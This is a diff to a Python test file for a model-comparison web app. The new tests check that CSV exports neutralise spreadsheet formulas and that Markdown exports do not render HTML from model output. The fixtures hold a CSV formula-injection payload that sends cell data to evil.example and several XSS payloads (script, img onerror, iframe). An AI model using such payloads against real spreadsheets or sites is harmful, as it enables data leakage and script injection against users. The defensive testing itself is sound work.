@@ -98,7 +98,7 @@ def test_exports_in_json_markdown_and_csv(alice, comparison):
     response = client.get(f"/c/{comparison.id}/export.md")
     assert response["Content-Type"].startswith("text/markdown") and "attachment" in response["Content-Disposition"]
     md = response.content.decode()
-    assert "> Name a <b>sea</b>" in md and "## smollm2-135m-instruct (fast), done" in md
+    assert "> Name a &lt;b&gt;sea&lt;/b&gt;" in md and "## smollm2-135m-instruct (fast), done" in md
     assert "> Error: The model ran out of memory." in md
 
     rows = list(csv.DictReader(io.StringIO(client.get(f"/c/{comparison.id}/export.csv").content.decode())))
@@ -129,3 +129,30 @@ def test_a_shared_comparison_still_running_refreshes_by_polling(alice, bundled):
     Response.objects.create(comparison=comparison, model=bundled["gemma-3-270m"], mode="fast", status="running")
     html = Client().get(f"/s/{comparison.share()}/").content.decode()
     assert 'hx-trigger="every 2s"' in html and "Stop" not in html
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_would_start_a_formula_are_text_also_through_a_share_link(alice, bundled, start):
+    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
+    comparison = Comparison.objects.create(owner=alice, prompt=formula, mode="fast")
+    Response.objects.create(comparison=comparison, model=bundled["gemma-3-270m"], mode="fast", status="done",
+                            text=formula, metrics={"decode_tokens_per_s": -1.5})
+    token = comparison.share()
+    for client, path in ((client_for(alice), f"/c/{comparison.id}/export.csv"), (Client(), f"/s/{token}/export.csv")):
+        [row] = list(csv.DictReader(io.StringIO(client.get(path).content.decode())))
+        assert row["prompt"] == row["text"] == "'" + formula
+        assert row["decode_tokens_per_s"] == "-1.5"  # a number stays a number
+
+
+def test_markdown_export_fences_model_output_so_its_html_is_never_rendered(alice, bundled):
+    from markdown_it import MarkdownIt
+
+    answer = "Here:\n<img src=x onerror=alert(1)>\n```\n<script>alert(2)</script>\n```\n````"
+    comparison = Comparison.objects.create(owner=alice, prompt="<iframe src=//evil.example>", mode="fast")
+    Response.objects.create(comparison=comparison, model=bundled["gemma-3-270m"], mode="fast", status="done",
+                            text=answer, reasoning="<script>alert(3)</script>", error="<b>oops</b>")
+    md = client_for(alice).get(f"/c/{comparison.id}/export.md").content.decode()
+    assert answer in md  # shown as written
+    rendered = MarkdownIt("commonmark").render(md)
+    for tag in ("<img", "<script", "<iframe", "<b>"):
+        assert tag not in rendered, rendered
